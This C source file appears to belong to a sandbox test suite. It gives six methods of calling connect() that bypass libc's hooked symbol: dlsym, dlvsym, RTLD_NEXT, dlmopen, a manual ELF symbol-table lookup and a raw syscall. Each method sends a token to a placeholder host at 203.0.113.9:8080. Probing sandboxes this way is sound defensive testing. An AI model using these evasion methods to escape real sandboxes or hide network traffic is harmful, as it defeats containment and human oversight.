/* Ways out past the libc's own symbols. escape_libc NAME sends $ESCAPE_TOKEN (or NAME) to 203.0.113.9:8080; `list` names them. */
#include "escapes.h"

#include <arpa/inet.h>
#include <dlfcn.h>
#include <elf.h>
#include <link.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

typedef int (*connector)(int, const struct sockaddr *, socklen_t);

static void by(connector call)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(8080) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_aton("203.0.113.9", &to.sin_addr);
	if (!call || call(fd, (struct sockaddr *)&to, sizeof(to)))
		return;
	send(fd, token, strlen(token), MSG_NOSIGNAL);
	usleep(50000);
}

static void from(void *handle, const char *version)
{
	by(handle ? (connector)(version ? dlvsym(handle, "connect", version) : dlsym(handle, "connect")) : NULL);
}

static void connect_of_the_libc_by_dlsym(void) { from(dlopen("libc.so.6", RTLD_NOW), NULL); }
static void connect_of_the_libc_by_dlvsym(void) { from(dlopen("libc.so.6", RTLD_NOW), "GLIBC_2.2.5"); }
static void connect_of_the_next_library(void) { from(RTLD_NEXT, NULL); }
static void connect_of_a_second_libc_by_dlmopen(void) { from(dlmopen(LM_ID_NEWLM, "libc.so.6", RTLD_NOW), NULL); }

/* The library's symbol table, read as the loader reads it: no function is asked. */
static int find_connect(struct dl_phdr_info *info, size_t size, void *data)
{
	const ElfW(Sym) *symbols = NULL;
	const char *names = NULL;

	(void)size;
	if (!strstr(info->dlpi_name, "/libc.so.6"))
		return 0;
	for (int i = 0; i < info->dlpi_phnum; i++) {
		const ElfW(Dyn) *dyn = (const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);

		if (info->dlpi_phdr[i].p_type != PT_DYNAMIC)
			continue;
		for (; dyn->d_tag != DT_NULL; dyn++) {
			if (dyn->d_tag == DT_SYMTAB)
				symbols = (const ElfW(Sym) *)dyn->d_un.d_ptr;
			else if (dyn->d_tag == DT_STRTAB)
				names = (const char *)dyn->d_un.d_ptr;
		}
	}
	for (; symbols && (const char *)symbols < names; symbols++)
		if (symbols->st_value && !strcmp(names + symbols->st_name, "connect"))
			*(connector *)data = (connector)(info->dlpi_addr + symbols->st_value);
	return 1;
}

static void connect_found_in_the_symbol_table(void)
{
	connector found = NULL;

	dl_iterate_phdr(find_connect, &found);
	by(found);
}

#ifdef __x86_64__
static int instruction(int fd, const struct sockaddr *to, socklen_t len)
{
	long result;

	__asm__ volatile("syscall" : "=a"(result) : "a"((long)SYS_connect), "D"((long)fd), "S"(to), "d"((long)len) : "rcx", "r11", "memory");
	return result ? -1 : 0;
}

static void connect_by_instruction(void) { by(instruction); }
#endif

static const struct attempt attempts[] = {
	ROW(connect_of_the_libc_by_dlsym), ROW(connect_of_the_libc_by_dlvsym), ROW(connect_of_the_next_library),
	ROW(connect_of_a_second_libc_by_dlmopen), ROW(connect_found_in_the_symbol_table),
#ifdef __x86_64__
	ROW(connect_by_instruction),
#endif
};

int main(int argc, char **argv) { return run_attempt(argc, argv, attempts, sizeof(attempts) / sizeof(attempts[0])); }
